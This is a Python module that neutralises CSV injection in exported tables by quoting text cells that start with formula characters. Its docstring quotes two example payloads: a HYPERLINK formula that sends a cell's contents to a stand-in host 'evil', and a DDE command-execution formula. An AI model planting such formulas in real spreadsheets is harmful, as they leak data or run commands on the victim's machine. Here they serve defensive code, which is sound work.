"""CSV exports that a spreadsheet cannot run: every CSV the CLI writes or the app offers for download goes
through :func:`to_csv`.

Text in the tables comes from the user's data (domain, class and image names from folders or a manifest;
prompts), so a manifest row with the class ``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` would
reach a spreadsheet as a formula (CSV injection). As OWASP recommends, a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote (``'=HYPERLINK(...)``): spreadsheets
show it as text, and the value stays readable. Numeric columns are never touched (``-0.25`` stays a number);
column names and the index are treated like cells. Fields are quoted by the CSV writer as usual, so a cell
cannot open a new field or row either.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula; else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells, column names and index labels are neutralised (numbers untouched)."""
    out = df.copy()
    for c in out.columns:
        col = out[c]
        if col.dtype == object or isinstance(col.dtype, (pd.StringDtype, pd.CategoricalDtype)):
            out[c] = col.astype(object).map(neutralise)
    if not isinstance(out.columns, pd.MultiIndex):
        out.columns = [neutralise(c) for c in out.columns]
    if out.index.dtype == object and not isinstance(out.index, pd.MultiIndex):
        out.index = out.index.map(neutralise)
    return out


def to_csv(df: pd.DataFrame, path_or_buf=None, **kwargs) -> str | None:
    """``df.to_csv(path_or_buf, **kwargs)`` with CSV injection neutralised (see the module doc)."""
    return safe_frame(df).to_csv(path_or_buf, **kwargs)
